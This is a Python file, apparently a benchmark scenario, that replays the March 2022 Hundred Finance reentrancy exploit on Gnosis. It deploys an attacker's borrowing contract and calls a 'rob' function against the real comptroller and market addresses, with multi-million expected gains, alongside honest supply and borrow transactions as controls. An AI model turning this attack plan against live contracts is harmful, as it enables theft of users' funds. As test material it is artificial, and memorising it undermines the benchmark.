"""Hundred Finance on Gnosis, March 2022: the bridge's USDC calls its receiver, and markets paid before they booked."""

from benches.quality.plan import ETHER, NATIVE, Incident, Plan, call, gains

USDC_MARKET = "0x243e33aa7f6787154a8e59d3c27a66db3f8818ee"
DAI_MARKET = "0x090a00a2de0ea83def700b5e216f87a5d4f394fe"
USDC = "0xddafbb505ad214d7b80b1f830fccc89b60fb7a83"
_COMPTROLLER = "0x0f390559f258eb8591c8e31cf0905e97cf36ace2"
_UNIT = 10**6


def build(plan: Plan) -> None:
    def holds(owner: str, amount: int) -> None:
        plan.give(USDC, owner, amount * _UNIT, slot=3)
        plan.allow(USDC, owner, USDC_MARKET, slot=5)

    attacker = plan.actor("attacker")
    borrower = plan.deploy(attacker, "TokenHookBorrower")
    holds(borrower, 2_000_000)
    rob = call(
        "rob(address,address,address,uint256,uint256,uint256)",
        *(_COMPTROLLER, USDC_MARKET, DAI_MARKET),
        *(2_000_000 * _UNIT, 1_750_000 * _UNIT, 1_200_000 * ETHER),
    )
    plan.attack(
        plan.transaction(attacker, borrower, rob, gas=6_000_000),
        changes=[gains(USDC, attacker, 1_750_000 * _UNIT), gains(NATIVE, attacker, 1_190_000 * ETHER)],
    )

    saver, debtor = plan.actor("saver"), plan.actor("debtor", 20_000 * ETHER)
    holds(saver.address, 25_000)
    plan.honest(
        "supply of 25,000 USDC",
        plan.transaction(saver, USDC_MARKET, call("mint(uint256)", 25_000 * _UNIT)),
        changes=[gains(USDC_MARKET, saver, 1)],
    )
    plan.before(debtor, DAI_MARKET, call("mint()"), value=15_000 * ETHER)
    plan.before(debtor, _COMPTROLLER, call("enterMarkets(address[])", [DAI_MARKET]))
    plan.honest(
        "10,000 USDC borrowed against 15,000 xDAI",
        plan.transaction(debtor, USDC_MARKET, call("borrow(uint256)", 10_000 * _UNIT)),
        changes=[gains(USDC, debtor, 10_000 * _UNIT)],
    )
    wallet, holder = plan.install("Wallet"), plan.actor("wallet's holder")
    holds(wallet, 40_000)
    plan.honest(
        "a wallet supplies 40,000 USDC and borrows 20,000 xDAI",
        plan.through(
            wallet,
            holder,
            (USDC_MARKET, 0, call("mint(uint256)", 40_000 * _UNIT)),
            (_COMPTROLLER, 0, call("enterMarkets(address[])", [USDC_MARKET])),
            (DAI_MARKET, 0, call("borrow(uint256)", 20_000 * ETHER)),
            (holder.address, 20_000 * ETHER, b""),
        ),
        changes=[gains(NATIVE, holder, 19_999 * ETHER)],
        by="contract",
    )


HUNDRED = Incident(
    "Hundred",
    {"hUSDC": USDC_MARKET, "hxDAI": DAI_MARKET},
    build,
    note="the attacker has what it would borrow for the transaction",
)
